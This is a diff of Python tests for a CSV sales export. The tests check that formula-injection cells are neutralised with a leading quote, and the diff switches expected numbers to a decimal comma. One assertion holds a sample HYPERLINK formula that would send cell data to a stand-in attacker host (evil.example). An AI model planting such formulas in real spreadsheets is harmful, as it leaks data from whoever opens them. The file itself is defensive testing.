@@ -73,7 +73,7 @@ def test_no_cell_of_the_sales_csv_executes_or_carries_control_characters(hostile
     assert len(rows) == 1 + len(HOSTILE_NAMES)
     for row in rows[1:]:
         for cell in row:
-            assert not cell.lstrip(" ").startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
+            assert not cell.lstrip(" ").startswith(FORMULA_START) or re.fullmatch(r"-?\d+(,\d+)?", cell), cell
     names = {row[1] for row in rows[1:]}
     # Neutralised, not lost: the text is still there behind the quote.
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") Oy" in names and "'@SUM(1+1) Oy" in names
@@ -90,7 +90,7 @@ def test_csv_keeps_numbers_as_numbers_and_quotes_text(tmp_path):
     write_csv({"companies": [row]}, tmp_path / "r.csv")
     header, line = (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()[:2]
     cells = line.split(";")
-    assert cells[0] == "1" and cells[6] == "3" and cells[10] == "-2.5"  # numbers stay numbers, unquoted
+    assert cells[0] == "1" and cells[6] == "3" and cells[10] == "-2,5"  # numbers, unquoted, decimal comma
     assert cells[1] == "\"'+358 Oy\"" and cells[12] == "\"'-x (1)\"" and cells[15] == '"yes"'
     assert cells[3] == '"-12,5"'  # a plain number in a text column cannot compute anything
 
